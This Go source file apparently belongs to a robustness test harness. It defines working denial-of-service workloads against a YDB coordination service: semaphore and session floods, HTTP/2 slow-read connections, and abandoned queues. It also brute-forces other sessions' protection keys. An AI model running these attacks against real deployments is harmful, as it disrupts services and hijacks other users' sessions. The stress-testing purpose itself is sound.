package hostile

import (
	"cmp"
	"context"
	"fmt"
	"strings"
	"sync"
	"time"

	"github.com/ydb-platform/ydb-go-genproto/protos/Ydb_Coordination"
	"github.com/ydb-platform/ydb-go-genproto/protos/Ydb_Scheme"
	"golang.org/x/net/http2"
)

// requestAttacks consist of valid requests.
var requestAttacks = []Attack{
	{Name: "updates-16", run: updates(16, 1)},
	{Name: "updates-72", run: updates(72, 6)},
	{Name: "describe-waiters", run: describeWaiters(9_000)},
	{Name: "describe-data", run: describeData(64, 40)},
	{Name: "list-directory", run: listDirectory(1_000, 5_000)},
	{Name: "semaphores-1MiB", run: create(16, 1<<20)},
	{Name: "semaphores-million", run: create(64, 0)},
	{Name: "sessions-million", run: sessions},
	{Name: "wrong-keys", run: wrongKeys},
}

// node returns the path of a node of the attacker.
func node(i int) string {
	if i == 0 {
		return SameNode
	}

	return fmt.Sprintf("/local/hostile-%d", i)
}

// streams attaches n sessions, on several nodes and each over a connection of its own, and calls use with each.
// The answers are read and pings are answered, until ctx ends.
func (t *target) streams(ctx context.Context, n, nodes int, use func(ctx context.Context, i int, s stream) error) {
	c, conn, err := t.client()
	if err != nil {
		return
	}
	defer conn.Close()
	for i := range nodes {
		_, _ = c.CreateNode(ctx, &Ydb_Coordination.CreateNodeRequest{
			Path: node(i), Config: &Ydb_Coordination.Config{},
		})
	}
	var all sync.WaitGroup
	defer all.Wait()
	for i := range n {
		all.Go(func() {
			for ctx.Err() == nil {
				if err := t.session(ctx, i, node(i%nodes), use); err != nil && ctx.Err() == nil {
					t.cut.Add(1)
					wait(ctx, 100*time.Millisecond)
				}
			}
		})
	}
}

func (t *target) session(
	ctx context.Context, i int, path string, use func(ctx context.Context, i int, s stream) error,
) error {
	c, conn, err := t.client()
	if err != nil {
		return err
	}
	defer conn.Close()
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	s, _, err := attach(ctx, c, &Ydb_Coordination.SessionRequest_SessionStart{Path: path, TimeoutMillis: 5_000})
	if err != nil {
		return err
	}
	used := make(chan error, 1)
	locked := &lockedStream{stream: s}
	go func() { used <- use(ctx, i, locked) }() // ends with ctx
	for {
		m, err := s.Recv()
		if err != nil {
			cancel()

			return cmp.Or(err, <-used) // use has failed because the stream has
		}
		_ = answer(locked, m)
	}
}

// lockedStream allows several goroutines to send.
type lockedStream struct {
	stream

	mu sync.Mutex
}

func (s *lockedStream) Send(m *request) error {
	s.mu.Lock()
	defer s.mu.Unlock()

	return s.stream.Send(m)
}

func createRequest(name string, data []byte) *request {
	return &request{Request: &Ydb_Coordination.SessionRequest_CreateSemaphore_{
		CreateSemaphore: &Ydb_Coordination.SessionRequest_CreateSemaphore{Name: name, Limit: 1, Data: data},
	}}
}

func acquireRequest(name string, count uint64, data []byte) *request {
	return &request{Request: &Ydb_Coordination.SessionRequest_AcquireSemaphore_{
		AcquireSemaphore: &Ydb_Coordination.SessionRequest_AcquireSemaphore{
			Name: name, Count: count, Ephemeral: true, Data: data, TimeoutMillis: 3_600_000,
		},
	}}
}

func describeRequest(name string) *request {
	return &request{Request: &Ydb_Coordination.SessionRequest_DescribeSemaphore_{
		DescribeSemaphore: &Ydb_Coordination.SessionRequest_DescribeSemaphore{
			Name: name, IncludeOwners: true, IncludeWaiters: true,
		},
	}}
}

// updates changes the data of a semaphore again and again, from n sessions on several nodes.
func updates(n, nodes int) func(context.Context, *target) {
	return func(ctx context.Context, t *target) {
		t.streams(ctx, n, nodes, func(_ context.Context, i int, s stream) error {
			name := fmt.Sprint("large-", i)
			data := make([]byte, 1<<20)
			if err := s.Send(createRequest(name, data)); err != nil {
				return err
			}
			for n := byte(0); ; n++ {
				data[0] = n
				err := s.Send(&request{Request: &Ydb_Coordination.SessionRequest_UpdateSemaphore_{
					UpdateSemaphore: &Ydb_Coordination.SessionRequest_UpdateSemaphore{Name: name, Data: data},
				}})
				if err != nil {
					return err
				}
				t.done.Add(1)
			}
		})
	}
}

// create creates semaphores with data, from n sessions.
func create(n, size int) func(context.Context, *target) {
	return func(ctx context.Context, t *target) {
		t.streams(ctx, n, 1, func(_ context.Context, i int, s stream) error {
			for k := 0; ; k++ {
				if err := s.Send(createRequest(fmt.Sprintf("s-%d-%d", i, k), make([]byte, size))); err != nil {
					return err
				}
				t.done.Add(1)
			}
		})
	}
}

// queue lets n sessions wait for a semaphore, and leaves them behind.
func (t *target) queue(ctx context.Context, n int, name string, size int) {
	c, conn, err := t.client()
	if err != nil {
		return
	}
	defer conn.Close()
	var all sync.WaitGroup
	defer all.Wait()
	for range 64 {
		all.Go(func() {
			for range n / 64 {
				ctx, cancel := context.WithCancel(ctx)
				s, _, err := attach(ctx, c, &Ydb_Coordination.SessionRequest_SessionStart{TimeoutMillis: 600_000})
				if err == nil {
					_ = s.Send(acquireRequest(name, 1<<63, make([]byte, size)))
					for m, err := s.Recv(); err == nil && answer(s, m); m, err = s.Recv() {
						continue
					}
				}
				cancel()
			}
		})
	}
}

// describeWaiters describes a long queue again and again, and reads the answers. In a short attack the queue is
// shorter, because the sessions that wait in it take a part of the time.
func describeWaiters(n int) func(context.Context, *target) {
	return func(ctx context.Context, t *target) {
		ends, _ := ctx.Deadline()
		filling, cancel := context.WithTimeout(ctx, time.Until(ends)/2)
		t.queue(filling, n, "queue", 0)
		cancel()
		t.streams(ctx, 1, 1, func(_ context.Context, _ int, s stream) error {
			for {
				if err := s.Send(describeRequest("queue")); err != nil {
					return err
				}
				t.done.Add(1)
			}
		})
	}
}

// describeData describes a semaphore whose owners and waiters have n MiB of data together, times times, and reads
// nothing.
func describeData(n, times int) func(context.Context, *target) {
	return func(ctx context.Context, t *target) {
		t.queue(ctx, n, "data", 1<<20)
		start := message(startRequest(&Ydb_Coordination.SessionRequest_SessionStart{Path: SameNode, TimeoutMillis: 60_000}))
		t.repeat(ctx, times, func(ctx context.Context) error {
			w, err := connect(ctx, t.addr, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 10})
			if err != nil {
				return err
			}
			defer w.Close()
			id := w.call(sessionMethod)
			_ = w.fr.WriteData(id, false, start)
			_ = w.fr.WriteData(id, false, message(describeRequest("data")))
			t.done.Add(1)
			if err := w.flush(); err != nil {
				return err
			}
			wait(ctx, time.Minute)

			return ctx.Err()
		})
	}
}

// listDirectory lists a large directory many times, and reads nothing.
func listDirectory(entries, calls int) func(context.Context, *target) {
	return func(ctx context.Context, t *target) {
		c, conn, err := t.client()
		if err != nil {
			return
		}
		defer conn.Close()
		for i := range entries {
			_, _ = c.CreateNode(ctx, &Ydb_Coordination.CreateNodeRequest{
				Path: fmt.Sprintf("/local/d/%s%d", strings.Repeat("x", 240), i), Config: &Ydb_Coordination.Config{},
			})
		}
		list := message(&Ydb_Scheme.ListDirectoryRequest{Path: "/local/d"})
		t.repeat(ctx, 1, func(ctx context.Context) error {
			w, err := connect(ctx, t.addr, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
			if err != nil {
				return err
			}
			defer w.Close()
			for range calls {
				_ = w.fr.WriteData(w.call(listMethod), true, list)
				t.done.Add(1)
				if err := w.flush(); err != nil {
					return err
				}
			}
			wait(ctx, time.Minute)

			return ctx.Err()
		})
	}
}

// sessions creates sessions and leaves them behind.
func sessions(ctx context.Context, t *target) {
	t.repeat(ctx, 32, func(ctx context.Context) error {
		c, conn, err := t.client()
		if err != nil {
			return err
		}
		defer conn.Close()
		for ctx.Err() == nil {
			ctx, cancel := context.WithCancel(ctx)
			_, _, err := attach(ctx, c, &Ydb_Coordination.SessionRequest_SessionStart{
				TimeoutMillis: 1_800_000, Description: strings.Repeat("x", 1_000),
			})
			cancel()
			if err != nil {
				return err
			}
			t.done.Add(1)
		}

		return nil
	})
}

// wrongKeys tries protection keys for the sessions of others.
func wrongKeys(ctx context.Context, t *target) {
	t.repeat(ctx, 32, func(ctx context.Context) error {
		c, conn, err := t.client()
		if err != nil {
			return err
		}
		defer conn.Close()
		for id := uint64(1); ctx.Err() == nil; id = id%4 + 1 {
			s, err := c.Session(ctx)
			if err != nil {
				return err
			}
			_ = s.Send(startRequest(&Ydb_Coordination.SessionRequest_SessionStart{
				Path: SameNode, SessionId: id, ProtectionKey: []byte(fmt.Sprint(t.done.Add(1))), SeqNo: 1 << 60,
			}))
			for err == nil {
				_, err = s.Recv()
			}
		}

		return nil
	})
}
